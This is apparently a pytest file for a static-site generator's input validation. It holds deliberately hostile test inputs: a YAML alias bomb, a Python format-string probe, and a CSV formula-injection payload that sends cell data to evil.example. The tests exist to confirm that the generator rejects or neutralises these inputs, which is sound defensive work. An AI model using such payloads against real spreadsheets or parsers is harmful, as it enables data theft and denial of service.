"""The probes of issue #11: each input that once published a wrong site now ends in a clear
`data/…/file.yml:LINE: what` message (or a correct site). Validation runs in-process; a few
probes need MkDocs and build for real."""
from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from conftest import ROOT, run_build, run_check
from generator.load import load_data
from generator.validate import validate

PLAN = "documents/plan-2023.yml"
TASKS = "documents/tasks-2021.yml"


def problems_for(data_dir: Path) -> list[str]:
    return [str(p) for p in validate(load_data(data_dir))]


def line_of(path: Path, text: str) -> int:
    return path.read_text(encoding="utf-8").split(text, 1)[0].count("\n") + 1


def replace(path: Path, old: str, new: str) -> int:
    """Replace the first `old`; return the line it starts on."""
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    line = text.split(old, 1)[0].count("\n") + 1
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return line


def only(problems: list[str], expected: str) -> str:
    """The single problem reported, which must contain `expected`."""
    assert len(problems) == 1, problems
    assert expected in problems[0], problems
    return problems[0]


# -- no silent shrinkage --------------------------------------------------------------------------

@pytest.mark.parametrize("content", ["", "# yaml-language-server: $schema=../schema/document.schema.json\n"])
def test_empty_or_comment_only_document(data_copy, content):
    (data_copy / PLAN).write_text(content, encoding="utf-8")
    only(problems_for(data_copy), f"data/{PLAN}:1: the file holds no data")


@pytest.mark.parametrize("name", ["plan-2023.yaml", "plan-2025.YML", "plan-2023.yml.bak"])
def test_document_with_another_extension(data_copy, name):
    (data_copy / PLAN).rename(data_copy / "documents" / name)
    problems = problems_for(data_copy)
    assert f"data/documents/{name}:1: unexpected file: files here end in .yml (this one would be ignored)" in problems


def test_extra_document_with_another_extension_is_not_ignored(data_copy):
    (data_copy / "documents" / "plan-2024.yaml").write_text((data_copy / PLAN).read_text(encoding="utf-8"))
    only(problems_for(data_copy), "data/documents/plan-2024.yaml:1: unexpected file")


@pytest.mark.parametrize("name", ["topics", "departments"])
def test_missing_or_empty_registry(data_copy, name):
    (data_copy / f"{name}.yml").write_text("# nothing\n", encoding="utf-8")
    only(problems_for(data_copy), f"data/{name}.yml:1: the file holds no data")
    (data_copy / f"{name}.yml").unlink()
    only(problems_for(data_copy), f"data/{name}.yml:1: the {'department registry' if name == 'departments' else 'topics file'} is missing")


def test_unreadable_file(data_copy):
    (data_copy / PLAN).unlink()
    (data_copy / PLAN).mkdir()  # unreadable as a file whoever runs the test (root reads any file)
    only(problems_for(data_copy), f"data/{PLAN}:1: cannot be read: Is a directory")


# -- encoding, aliases, depth ---------------------------------------------------------------------

def test_gbk_file_is_named_with_the_encoding_problem(data_copy):
    text = (data_copy / PLAN).read_text(encoding="utf-8")
    (data_copy / PLAN).write_bytes(text.encode("gbk", errors="replace"))
    first_chinese = next(i for i, line in enumerate(text.splitlines(), 1) if not line.isascii())
    problem = only(problems_for(data_copy), f"data/{PLAN}:{first_chinese}: not UTF-8: byte 0x")
    assert "GBK" in problem


def test_alias_bomb_is_refused_at_once(data_copy):
    bomb = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    bomb += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    (data_copy / "topics.yml").write_text("\n".join(bomb) + "\n", encoding="utf-8")
    started = time.perf_counter()
    problem = only(problems_for(data_copy), "data/topics.yml:1: YAML syntax error: YAML anchors and aliases (&name, *name) are not allowed")
    assert time.perf_counter() - started < 10, problem


@pytest.mark.parametrize("style", ["block", "flow"])
def test_deep_nesting(data_copy, style):
    if style == "flow":
        nested = "[" * 250 + "]" * 250
        line = replace(data_copy / PLAN, "short_title: 2023年推进计划", f"short_title: {nested}")
        only(problems_for(data_copy), f"data/{PLAN}:1: brackets nested deeper than 24 levels")
    else:
        nested = "".join(f"{'  ' * depth}- a:\n" for depth in range(250))
        line = replace(data_copy / PLAN, "short_title: 2023年推进计划\n", f"short_title: 2023年推进计划\nnotes:\n{nested}")
        problem = only(problems_for(data_copy), "nested deeper than 24 levels")
        assert problem.startswith(f"data/{PLAN}:") and int(problem.split(":")[1]) > line


# -- limits ---------------------------------------------------------------------------------------

def test_huge_short_title(data_copy):
    line = replace(data_copy / PLAN, "short_title: 2023年推进计划", "short_title: " + "长" * 100_000)
    problem = only(problems_for(data_copy), f"data/{PLAN}:{line}: short_title: 100,000 characters long; at most 200")
    assert len(problem) < 200


def test_long_id(data_copy):
    line = replace(data_copy / PLAN, "- id: t-2\n", "- id: t-" + "2" * 298 + "\n")
    only(problems_for(data_copy), f"data/{PLAN}:{line}: ")
    assert "id: 300 characters long; at most 64" in problems_for(data_copy)[0]


def test_id_with_trailing_newline(data_copy):
    line = replace(data_copy / PLAN, "- id: t-2\n", '- id: "t-2\\n"\n')
    only(problems_for(data_copy), f"data/{PLAN}:{line}: ")
    assert "id: 't-2\\n' ends in a line break" in problems_for(data_copy)[0]


def test_device_name_id(data_copy):
    line = replace(data_copy / PLAN, "- id: t-2\n", "- id: con\n")
    only(problems_for(data_copy), f"data/{PLAN}:{line}: ")
    assert "device name" in problems_for(data_copy)[0]


def test_year_as_a_float(data_copy):
    line = replace(data_copy / PLAN, "year: 2023", "year: 2023.0")
    only(problems_for(data_copy), f"data/{PLAN}:{line}: year: must be a whole number such as 2023, not 2023.0")


@pytest.mark.parametrize("date", ["'２０２３-０１-０５'", "'2023-13-45'", '"2023-01-05\\n"'])
def test_dates_are_iso_with_ascii_digits(data_copy, date):
    line = replace(data_copy / PLAN, "date: ''", f"date: {date}")
    problem = only(problems_for(data_copy), f"data/{PLAN}:{line}: date")
    assert "does not match" in problem or "not a date" in problem or "line break" in problem


@pytest.mark.parametrize("escape, name", [("\\0", "U+0000"), ("\\e", "U+001B"), ("\\L", "U+2028"),
                                          ("\\u202E", "U+202E RIGHT-TO-LEFT OVERRIDE"),
                                          ("\\u200B", "U+200B ZERO WIDTH SPACE"), ("\\x85", "U+0085")])
def test_control_and_invisible_characters(data_copy, escape, name):
    line = replace(data_copy / PLAN, "title: 完善知识产权制度\n", f'title: "完善知识产权{escape}制度"\n')
    only(problems_for(data_copy), f"data/{PLAN}:{line}: p-1 › title: contains {name}")


def test_line_break_in_a_one_line_field(data_copy):
    line = replace(data_copy / PLAN, "title: 完善知识产权制度\n", 'title: "完善知识产权\\n制度"\n')
    only(problems_for(data_copy), f"data/{PLAN}:{line}: p-1 › title: contains a line break")


def test_department_cycles(data_copy):
    registry = data_copy / "departments.yml"
    line = replace(registry, "  successor: {id: nfra, year: 2023}", "  successor: {id: cbirc, year: 2023}")
    problems = problems_for(data_copy)
    assert any(p.startswith(f"data/departments.yml:{line}: successor links go round in a circle: cbirc → cbirc")
               for p in problems), problems
    replace(registry, "  successor: {id: cbirc, year: 2023}", "  successor: {id: nfra, year: 2023}")
    text = registry.read_text(encoding="utf-8")
    first_unit = re.search(r"- id: ([a-z0-9-]+)\n(?:  .*\n)*?  parent: cnipa", text)[1]
    replace(registry, "- id: cnipa\n", f"- id: cnipa\n  parent: {first_unit}\n")
    problems = problems_for(data_copy)
    assert len(problems) == 1 and "parent links go round in a circle: cnipa → " in problems[0], problems


@pytest.mark.parametrize("value", ["1e-320", "nan", "-5", "inf"])
def test_indicator_values_a_chart_cannot_draw(data_copy, value):
    path = data_copy / "documents/plan-2021.yml"
    text = path.read_text(encoding="utf-8")
    baseline = re.search(r"\n( +)baseline: '?([0-9.]+)'?\n", text)
    line = replace(path, baseline[0], f"\n{baseline[1]}baseline: '{value}'\n") + 1
    problem = only(problems_for(data_copy), f"data/documents/plan-2021.yml:{line}: ")
    assert f"baseline '{value}' must be written as a plain number" in problem


@pytest.mark.parametrize("template", ["'{}{}'", "'{0.__class__.__mro__}'", "'{:>200000}'", "'（）'"])
def test_numbering_templates_are_data(data_copy, template):
    line = replace(data_copy / TASKS, "  task: '{n}.'", f"  task: {template}")
    problem = only(problems_for(data_copy), f"data/{TASKS}:{line}: numbering.task: numbering template")
    assert "placeholder" in problem


def test_chinese_numeral_placeholder(data_copy):
    from generator.index import build_corpus

    replace(data_copy / TASKS, "  task: '{n}.'", "  task: '第{cn}项'")
    raw = load_data(data_copy)
    assert validate(raw) == [] or all("not publish word for word" in str(p) or "none of its sources" in str(p)
                                      for p in validate(raw))
    corpus = build_corpus(raw)
    task = next(n for n in corpus.nodes if n.document.id == "tasks-2021" and n.kind == "task" and n.number == "12")
    assert task.printed_number == "第十二项"


# -- errors without cascades ----------------------------------------------------------------------

def test_duplicate_key_in_the_registry_is_one_problem(data_copy):
    line = replace(data_copy / "departments.yml", "  name: 中央宣传部\n", "  name: 中央宣传部\n  name: 中宣部\n") + 1
    only(problems_for(data_copy), f"data/departments.yml:{line}: YAML syntax error")


def test_schema_paths_name_item_ids(data_copy):
    line = replace(data_copy / PLAN, "      kind: task\n      number: '6'", "      kind: tsak\n      number: '6'")
    problem = only(problems_for(data_copy), f"data/{PLAN}:{line}: t-6 › kind: 'tsak' is not one of")
    assert "sections." not in problem


# -- typed twice, checked both ways ---------------------------------------------------------------

def test_participants_deleted_while_the_bracket_names_them(data_copy):
    line = replace(data_copy / PLAN, "      participants:\n      - 国家知识产权局\n      - 国家林草局\n", "")
    problems = problems_for(data_copy)
    assert problems == [f"data/{PLAN}:{line - 1}: t-4: the bracket names '{name}' but lead and participants do not; "
                        f"add it to participants" for name in sorted(["国家林草局", "国家知识产权局"])], problems


# -- fidelity is enforced by `make check` and `make site` -----------------------------------------

def test_paraphrase_fails_make_check_with_the_item_and_source_lines(data_copy):
    line = line_of(data_copy / PLAN, "      text: 推动完成《中华人民共和国专利法实施细则》")
    replace(data_copy / PLAN, "推动完成《中华人民共和国专利法实施细则》修改", "推动完成《中华人民共和国专利法实施细则》修订")
    result = run_check(data_copy)
    assert result.returncode == 1
    source = data_copy / "sources" / "002_7eb8a8e758457245.txt"
    source_line = line_of(source, "推动完成《中华人民共和国专利法实施细则》")
    assert (f"data/{PLAN}:{line}: t-1: the site does not publish word for word "
            f"data/sources/002_7eb8a8e758457245.txt:{source_line}:") in result.stderr, result.stderr
    assert re.search(rf"data/{PLAN}:\d+: t-1: text “推动完成《中华人民共和国专利法实施细则》修订.*” is in none of its sources",
                     result.stderr), result.stderr


# -- one output path, one page (needs MkDocs: a small corpus) -------------------------------------

def test_two_pages_with_one_address_stop_the_build(tmp_path):
    from test_hostile_input import hostile_data

    data = hostile_data(tmp_path / "data")
    document = data / "documents" / "evil-doc.yml"
    text = document.read_text(encoding="utf-8").replace("id: evil-doc", "id: data").replace("id: t-2", "id: index")
    (data / "documents" / "data.yml").write_text(text, encoding="utf-8")
    document.unlink()
    for name in ("departments.yml", "topics.yml"):
        path = data / name
        path.write_text(path.read_text(encoding="utf-8").replace("id: evil\n", "id: index\n"), encoding="utf-8")
    site = tmp_path / "site"
    result = run_build(site, data)
    assert result.returncode != 0
    clashes = [line for line in result.stderr.splitlines() if ": makes " in line]
    assert len(clashes) == 4, result.stderr
    for expected in (("(id data)", "data/index.html", "data.html"), ("(id index)", "data/index.html", "(id data) makes too"),
                     ("data/departments.yml:", "departments/index.html", "departments.html"),
                     ("data/topics.yml:", "topics/index.html", "topics.html")):
        assert any(all(part in line for part in expected) for line in clashes), (expected, clashes)
    assert not site.exists()


# -- open data safe in spreadsheets ---------------------------------------------------------------

def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    import csv
    import io
    import json

    from generator.downloads import to_csv, to_json

    values = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击")', "+1+2", "-3", "@SUM(A1)", "\t=1", "\r=1",
              "普通文字", "a=b", "—"]
    rows = [{"text": value} for value in values]
    cells = [row["text"] for row in csv.DictReader(io.StringIO(to_csv(rows, ["text"]).decode("utf-8-sig"), newline=""))]
    for value, cell in zip(values, cells, strict=True):
        risky = value[:1] in ("=", "+", "-", "@", "\t", "\r")
        assert cell == ("'" + value if risky else value)
    assert [row["text"] for row in json.loads(to_json(rows))] == values  # JSON keeps the exact text


def test_published_csv_has_no_formula_cells(site):
    import json

    from conftest import read_csv

    for path in sorted((site / "downloads").glob("*.csv")):
        rows = read_csv(path)
        exact = json.loads(path.with_suffix(".json").read_text(encoding="utf-8"))
        for row, original in zip(rows, exact, strict=True):
            for column, cell in row.items():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, column, cell)
                assert cell == str(original[column]) or cell == "'" + str(original[column])
